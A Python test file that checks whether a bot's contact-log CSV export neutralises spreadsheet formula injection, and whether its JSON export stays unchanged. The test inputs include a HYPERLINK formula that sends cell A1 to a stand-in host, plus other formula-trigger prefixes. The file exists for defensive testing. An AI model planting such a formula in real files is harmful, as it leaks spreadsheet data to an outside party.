"""Exports are safe to open: no cell a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from bot.contactlog import export, record
from tests.edges_kit import make_service

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klikk")', "+47 1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("text", FORMULAS)
def test_it_neutralises_a_youths_formula_in_the_csv_export(tmp_path, text):
    svc = make_service(tmp_path)
    with svc.tx() as session:
        record(session, svc.settings, at=svc.now(), youth_id=None, party="youth", channel="telegram",
               direction="in", kind="message", text=text)
        body = export(session, svc.settings, fmt="csv")
    (row,) = list(csv.DictReader(io.StringIO(body, newline="")))
    assert row["text"] == "'" + text
    assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_it_leaves_ordinary_texts_and_the_json_export_alone(tmp_path):
    svc = make_service(tmp_path)
    with svc.tx() as session:
        record(session, svc.settings, at=svc.now(), youth_id=None, party="youth", channel="telegram",
               direction="in", kind="message", text="Hei = hallo")
        (row,) = list(csv.DictReader(io.StringIO(export(session, svc.settings, fmt="csv"), newline="")))
        assert row["text"] == "Hei = hallo"
        assert "=HYP" not in row["at"]
        record(session, svc.settings, at=svc.now(), youth_id=None, party="youth", channel="telegram",
               direction="in", kind="message", text="=1+1")
        assert '"=1+1"' in export(session, svc.settings, fmt="json")
